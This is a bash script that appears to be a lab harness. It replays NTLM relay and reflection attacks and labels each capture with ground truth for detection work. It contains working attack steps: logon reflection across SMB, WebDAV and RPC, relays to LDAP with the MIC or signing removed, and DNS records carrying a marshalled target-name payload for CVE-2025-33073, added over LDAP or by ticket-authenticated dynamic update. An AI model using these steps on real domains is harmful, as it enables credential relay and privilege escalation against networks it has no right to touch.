# Logons that are sent back to where they come from, and the names that make Windows do it: one function
# records one capture.

REFLECTED=("${COERCED_HERE[@]}" target=$SRV family=relay)
# A host name followed by an empty CREDENTIAL_TARGET_INFORMATION in base64: Windows resolves the whole of it
# and takes the part before for the host's name.
MARSHALLED=1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA

scenario_reflection_smb_smb() {
  callback_with libsmbclient
  record reflection_smb_smb
  relay_on smb -t "smb://$SRV"
  efs_call
  sleep 3
  truth "${REFLECTED[@]}" "${COERCED_SMB[@]}" expect=reflection:smb-smb "$IMPACKET_TOOLS" \
    notes="The victim's logon comes back to the victim. Samba takes it, Windows has refused it since 2008."
}

scenario_reflection_webdav_smb() {
  record reflection_webdav_smb
  relay_on http -t "smb://$SRV"
  machine_webdav $EVIL
  sleep 3
  truth "${REFLECTED[@]}" expect=reflection:webdav-smb expect=webdav "$CURL_TOOLS" notes="WebDAV out, SMB back."
}

scenario_reflection_rpc_smb() {
  record reflection_rpc_smb
  relay_on rpc -t "smb://$SRV"
  machine_rpc $EVIL connect
  sleep 3
  truth "${REFLECTED[@]}" expect=reflection:rpc-smb "$IMPACKET_TOOLS" notes="RPC out, SMB back, as potatoes across hosts do it."
}

# dc_logon LISTENER: the domain controller itself goes out, with its own account
dc_logon() {
  quietly_on dc1 smbclient "//$1/IPC$" -t 8 -c exit -P --use-kerberos=off -s "$STATE/dc1/etc/smb.conf" \
    '--option=client ipc signing=if_required'
}

scenario_reflection_smb_ldap_dc() {
  record reflection_smb_ldap_dc
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}"
  dc_logon $EVIL
  sleep 3
  truth malicious=yes attacker=$EVIL victim=$DC listener=$EVIL target=$DC family=relay expect=reflection:smb-ldap \
    "$IMPACKET_TOOLS" notes="A domain controller's logon, relayed to its own LDAP. The client wants signing, so that nothing comes after the bind."
}

scenario_reflection_smb_ldap_dc_stripped() {
  record reflection_smb_ldap_dc_stripped
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-mic
  dc_logon $EVIL
  sleep 3
  truth malicious=yes attacker=$EVIL victim=$DC listener=$EVIL target=$DC family=relay expect=reflection:smb-ldap \
    expect=tampering:mic expect=tampering:flags "$IMPACKET_TOOLS" notes="The same with the MIC taken out, which Samba refuses."
}

scenario_reflection_local_call() {
  record reflection_local_call
  "$HERE/in_host" srv1 "$CLIENTS/python" "$HERE/local_call.py" server $SRV 8081 > "$RUN/local_call.log" 2>&1 &
  HELPER=$!
  wait_for_port srv1 8081
  relay_on smb -t "http://$SRV:8081/"
  quietly_on srv1 "$CLIENTS/python" "$HERE/local_call.py" client $EVIL
  sleep 2
  truth "${REFLECTED[@]}" expect=reflection:smb-http "$IMPACKET_TOOLS" \
    notes="LOCAL_CALL across hosts: the victim's NEGOTIATE has its own names, its web server takes it for its own and sets 0x4000 in the CHALLENGE, the AUTHENTICATE is empty. Both ends are stand-ins; the relay is ntlmrelayx."
}

# Marshalled target names

scenario_marshalled_reflection() {
  callback_with libsmbclient
  record marshalled_reflection
  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "$SRV_NAME$MARSHALLED" $EVIL
  relay_on smb -t "smb://$SRV"
  efs_call "\\\\$SRV_NAME$MARSHALLED\\share\\file.txt"
  sleep 3
  truth "${REFLECTED[@]}" "${COERCED_SMB[@]}" expect=marshalled-name:ldap expect=marshalled-name:dns \
    expect=marshalled-name:rpc expect=marshalled-name:smb expect=ldap-write:dnsnode expect=follow-up:adidns \
    expect=reflection:smb-smb tools="$IMPACKET_CALL, ldap3 2.9.1" \
    notes="CVE-2025-33073 as far as it can be shown without Windows: the name added over LDAP, given in the call, asked for in DNS, used as the server's name in the tree connect, and the logon reflected."
  forget_name "$SRV_NAME$MARSHALLED" $EVIL
}

scenario_marshalled_update() {
  callback_with libsmbclient
  record marshalled_update
  secure_update "$FILES_NAME$MARSHALLED" $DROP
  listen drop $DROP
  efs_call "\\\\$FILES_NAME$MARSHALLED\\share\\file.txt"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP family=relay "${COERCED_SMB[@]}" expect=marshalled-name:dns \
    expect=marshalled-name:rpc expect=marshalled-name:smb expect=follow-up:adidns expect=rogue-server:smbserver \
    tools="$IMPACKET_CALL, nsupdate $(nsupdate -V 2>&1 | awk '{print $2; exit}')" \
    notes="The name is added by a secure dynamic update with a user's ticket. The listener hands out a fixed challenge."
  forget_name "$FILES_NAME$MARSHALLED" $DROP
}

# secure_update NAME ADDRESS: a dynamic update from the attacker's host with $ALICE's ticket
secure_update() {
  printf 'server %s\nzone %s\nupdate add %s.%s 180 A %s\nsend\n' \
    "$DC_FQDN" "$DNS_DOMAIN" "$1" "$DNS_DOMAIN" "$2" > "$RUN/update"
  in_host evil bash -c "echo '$ALICE_PW' | kinit -c '$RUN/evil.ccache' $ALICE@$REALM" > /dev/null 2>&1 || true
  quietly_on evil env KRB5CCNAME="$RUN/evil.ccache" nsupdate -g "$RUN/update"
}

scenario_marshalled_lower_case() {
  local name=localhost${MARSHALLED,,}
  record marshalled_lower_case
  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "localhost$MARSHALLED" $EVIL
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-sign-seal
  quietly_on srv1 nslookup "$name.$DNS_DOMAIN" $DC
  machine_impacket "$EVIL"
  sleep 3
  truth "${COERCED_HERE[@]}" target=$DC family=relay expect=marshalled-name:ldap expect=marshalled-name:dns \
    expect=ldap-write:dnsnode expect=follow-up:adidns expect=relay:smb-ldap \
    tools="$IMPACKET_CALL, ldap3 2.9.1, nslookup $(nslookup -version 2>&1 | awk '{print $2; exit}')" \
    notes="The name is asked for in lower case, as some resolvers do, where base64 no longer says what it said. Then a relay with the signing flags removed."
  forget_name "localhost$MARSHALLED" $EVIL
}

scenario_marshalled_ldap_only() {
  record marshalled_ldap_only
  quietly_on evil "$CLIENTS/python" "$HERE/ldap_write.py" $ALICE dnsnode "$DC_NAME$MARSHALLED" $EVIL
  quietly_on evil nslookup "$DC_NAME$MARSHALLED.$DNS_DOMAIN" $DC
  truth malicious=yes attacker=$EVIL family=relay expect=marshalled-name:ldap expect=marshalled-name:dns \
    expect=ldap-write:dnsnode expect=follow-up:adidns tools="ldap3 2.9.1" \
    notes="Only the preparation: the name is added and looked up to see that it is there."
  forget_name "$DC_NAME$MARSHALLED" $EVIL
}
